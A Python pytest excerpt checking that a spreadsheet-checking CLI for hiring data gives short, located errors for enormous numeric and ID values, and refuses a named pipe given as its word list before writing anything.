def test_huge_numbers_and_ids_are_short_located_errors(tmp_path: Path) -> None:
    """5,000 digits of Hiring Timeline Days (int() refuses them) and a 30,000-character
    Interview ID on a contact are located errors quoted as excerpts, not tracebacks."""
    iv = dict(IV, **{"Hiring Timeline Days": "9" * 5_000})
    ct = dict(CT, **{"Interview ID": "X" * 30_000})
    m = run_cli("check", str(book(tmp_path, iv=iv, ct=ct)))
    assert_refused(
        m,
        't.xlsx: Interviews!I2: Hiring Timeline Days "99999999999999999999999999999999999999999'
        '9999999999999999999… (5,000 characters)" is far too large — type a whole number',
    )
    assert 't.xlsx: Contacts!B2: Interview ID "XXXXXXXXXX' in m.err
    assert '… (30,000 characters)" is not on the Interviews sheet' in m.err
    assert len(m.err) < 1_000


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes on this system")
def test_fifo_as_word_list_is_refused(tmp_path: Path) -> None:
    """--words naming a named pipe is refused at once, before anything is written."""
    words = tmp_path / "words.txt"
    os.mkfifo(words)
    path = book(tmp_path)
    before = path.read_bytes()
    out = tmp_path / "out"
    m = run_cli("run", str(path), "--today", TODAY, "--words", str(words), "--out", str(out),
                timeout=30)  # fmt: skip
    assert_refused(m, f"Error: {words}: the word list is not a regular file", path, before)
    assert not out.exists()
    assert_bounded(m, 10)
